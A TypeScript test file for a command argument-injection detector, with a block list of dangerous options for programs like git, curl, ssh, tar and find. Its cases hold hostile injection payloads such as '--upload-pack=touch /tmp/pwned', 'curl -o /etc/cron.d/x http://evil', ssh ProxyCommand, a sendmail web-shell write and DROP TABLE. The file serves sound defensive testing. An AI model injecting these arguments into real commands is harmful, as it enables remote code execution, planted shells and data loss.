import t from 'tap';
import { DEFAULT_DANGEROUS_OPTIONS, detectArgumentInjection, type ArgumentInjectionPolicy } from '../../../src/detect/shell';
import type { UserInput } from '../../../src/detect/types';

const input = (value: string, path = 'url'): UserInput => ({ source: 'body', path, value });
const detect = (file: string, args: string[], value: string, policy?: ArgumentInjectionPolicy) =>
  detectArgumentInjection(file, args, [input(value)], policy);

t.test('default policy covers the required programs and options', async (t) => {
  const required: Record<string, string[]> = {
    git: ['--upload-pack', '--receive-pack', '-c', '--config', '--exec', '-u'],
    curl: ['-o', '--output', '-K', '--config', '-O', '-T', '--upload-file'],
    wget: ['-O', '--output-document', '-e', '--execute', '--post-file', '-i'],
    ssh: ['-o', '-F', 'ProxyCommand'],
    scp: ['-o', '-S', '-F'],
    rsync: ['-e', '--rsh', '--rsync-path'],
    tar: ['--checkpoint-action', '--to-command', '--use-compress-program', '-I', '-F'],
    find: ['-exec', '-execdir', '-ok', '-delete', '-fprintf'],
    zip: ['-TT', '--unzip-command', '-T'],
    sendmail: ['-X', '-C', '-O'],
    psql: ['-c', '-f', '--command'],
    mysql: ['-e', '--execute'],
  };
  for (const [program, options] of Object.entries(required)) {
    for (const o of options) t.ok(DEFAULT_DANGEROUS_OPTIONS[program]?.includes(o), `${program} ${o}`);
  }
  t.ok(Object.isFrozen(DEFAULT_DANGEROUS_OPTIONS), 'the default cannot be changed by accident');
  t.equal(Object.getPrototypeOf(DEFAULT_DANGEROUS_OPTIONS), Object.prototype, 'a plain object');
});

t.test('classic argument injections', async (t) => {
  const cases: [string, string[], string][] = [
    ['git', ['clone', '--upload-pack=touch /tmp/pwned', 'dir'], '--upload-pack=touch /tmp/pwned'],
    ['/usr/bin/git', ['ls-remote', '--upload-pack', 'touch /tmp/x', 'origin'], '--upload-pack'],
    ['git.exe', ['-c', 'core.sshCommand=id', 'fetch'], '-c'],
    ['git', ['clone', 'ext::sh -c touch% /tmp/pwned', 'dir'], 'ext::sh -c touch% /tmp/pwned'],
    ['curl', ['-o', '/etc/cron.d/x', 'http://evil'], '-o'],
    ['curl', ['-vo/tmp/x', 'http://evil'], '-vo/tmp/x'],
    ['curl', ['--config=/tmp/evil.conf'], '--config=/tmp/evil.conf'],
    ['wget', ['--execute=robots=off', 'http://x'], '--execute=robots=off'],
    ['wget', ['--use-askpass=/tmp/evil', 'http://x'], '--use-askpass=/tmp/evil'],
    ['ssh', ['-oProxyCommand=touch /tmp/x', 'host'], '-oProxyCommand=touch /tmp/x'],
    ['ssh', ['-o', 'ProxyCommand=touch /tmp/x', 'host'], 'ProxyCommand=touch /tmp/x'],
    ['ssh', ['-o', 'proxycommand=touch /tmp/x', 'host'], 'proxycommand=touch /tmp/x'],
    ['scp', ['-S', '/tmp/evil', 'a', 'b'], '-S'],
    ['rsync', ['-e', 'sh -c id', 'a', 'b'], '-e'],
    ['rsync', ['--rsh=sh -c id', 'a', 'b'], '--rsh=sh -c id'],
    ['tar', ['cf', 'x.tar', '--checkpoint=1', '--checkpoint-action=exec=sh x.sh', 'f'], '--checkpoint-action=exec=sh x.sh'],
    ['tar', ['-I', 'sh x.sh', '-xf', 'a.tar'], '-I'],
    ['find', ['.', '-name', 'x', '-exec', 'id', ';'], '-exec'],
    ['find', ['.', '-execdir', 'id', ';'], '-execdir'],
    ['zip', ['out.zip', 'f', '-TT', 'sh -c id'], '-TT'],
    ['zip', ['out.zip', 'f', '-T', '--unzip-command=sh -c id'], '--unzip-command=sh -c id'],
    ['sendmail', ['-X/var/www/shell.php', 'a@b'], '-X/var/www/shell.php'],
    ['psql', ['-c', 'DROP TABLE x'], '-c'],
    ['mysql', ['--execute=DROP TABLE x'], '--execute=DROP TABLE x'],
    ['node', ['-e', 'process.exit()'], '-e'],
  ];
  for (const [file, args, value] of cases) {
    const d = detect(file, args, value);
    t.equal(d?.rule, 'cmdi.argument-injection', `${file} ${args.join(' ')}`);
    t.equal(d?.kind, 'command_injection');
  }
});

t.test('input as the start of an argument', async (t) => {
  // The app appends to the input: only a dangerous option is flagged then.
  t.equal(detect('git', ['clone', '--upload-pack=touch /tmp/x;.git'], '--upload-pack=touch /tmp/x;')?.rule, 'cmdi.argument-injection');
  t.equal(detect('git', ['clone', '--upload-p=x.git'], '--upload-p=x')?.rule, 'cmdi.argument-injection', 'abbreviated long option');
  t.equal(detect('git', ['log', '--oneline-x'], '--oneline'), undefined, 'a harmless option prefix');
  t.match(detect('git', ['clone', '--upload-pack=x'], '--upload-pack=x')?.reason, /--upload-pack/);
});

t.test('any option entirely from user input, for listed programs', async (t) => {
  t.equal(detect('git', ['log', '--all'], '--all')?.rule, 'cmdi.argument-injection');
  t.equal(detect('git', ['log', '--output=/tmp/x', 'x'], '--output=/tmp/x')?.rule, 'cmdi.argument-injection');
  t.match(detect('git', ['log', '--all'], '--all')?.reason, /option/);
  // Split by the app: each piece that is an option came from the user.
  t.equal(detect('git', ['log', 'x', '--exec=id'], 'x --exec=id')?.rule, 'cmdi.argument-injection');
  t.equal(detect('git', ['log', '--stat'], 'a--stat'), undefined, 'not a blank-separated piece of the input');
  t.equal(detect('curl', ['-s', 'see curl -s docs'], 'see curl -s docs'), undefined, "the app's own -s also occurs in the input");
});

t.test('benign uses', async (t) => {
  t.equal(detect('git', ['clone', 'https://github.com/a/b.git', 'dir'], 'https://github.com/a/b.git'), undefined);
  t.equal(detect('git', ['clone', '--', '--upload-pack=x'], '--upload-pack=x'), undefined, 'after -- it is an operand');
  t.equal(detect('git', ['log', '--author=-x'], '-x'), undefined, 'the input is an option value, not the option');
  // Known trade-off: a separate option value that starts with `-` is indistinguishable from an
  // injected option, so it is flagged; the attached spelling `--message=<input>` is not.
  t.equal(detect('git', ['commit', '-m', '- fix: thing'], '- fix: thing')?.rule, 'cmdi.argument-injection');
  t.equal(detect('git', ['commit', '--message=- fix: thing'], '- fix: thing'), undefined);
  t.equal(detect('report-tool', ['--evil', 'x.png'], '--evil'), undefined, 'program not in the policy');
  t.equal(detect('curl', ['-s', 'https://example.com'], 'https://example.com'), undefined);
  t.equal(detect('ssh', ['host', 'uptime'], 'host'), undefined);
  t.equal(detectArgumentInjection('git', ['--upload-pack=x'], []), undefined, 'no inputs');
  t.equal(detect('git', [], '--x'), undefined, 'no args');
  t.equal(detect('git', ['-v'], '-'), undefined, 'one-character inputs are ignored');
});

t.test('find ignores -- for its expression', async (t) => {
  t.equal(detect('find', ['--', '.', '-delete'], '-delete')?.rule, 'cmdi.argument-injection');
});

t.test('launchers are looked through', async (t) => {
  t.equal(detect('env', ['GIT_DIR=/x', 'git', 'clone', '--upload-pack=id'], '--upload-pack=id')?.rule, 'cmdi.argument-injection');
  t.equal(detect('/usr/bin/sudo', ['-u', 'deploy', 'git', 'pull', '-c', 'x'], '-c')?.rule, 'cmdi.argument-injection');
  t.equal(detect('timeout', ['5', 'curl', '-o', '/x', 'http://e'], '-o')?.rule, 'cmdi.argument-injection');
  t.equal(detect('nice', ['-n', '10', 'tar', '--to-command=sh', '-xf', 'a'], '--to-command=sh')?.rule, 'cmdi.argument-injection');
  t.equal(detect('env', ['--upload-pack=x', 'ls'], '--upload-pack=x'), undefined, 'launcher options are not the program options');
});

t.test('custom policies extend or replace the default', async (t) => {
  const policy: ArgumentInjectionPolicy = { ...DEFAULT_DANGEROUS_OPTIONS, convert: ['-script'] };
  t.equal(detect('convert', ['x.png', '-scriptfile'], '-scriptfile', policy)?.rule, 'cmdi.argument-injection');
  t.equal(detect('git', ['--upload-pack=x'], '--upload-pack=x', { convert: [] }), undefined, 'replaced: git not listed');
  t.equal(detect('constructor', ['-x'], '-x'), undefined, 'no prototype keys');
  t.equal(detect('toString', ['-x'], '-x', {}), undefined);
});
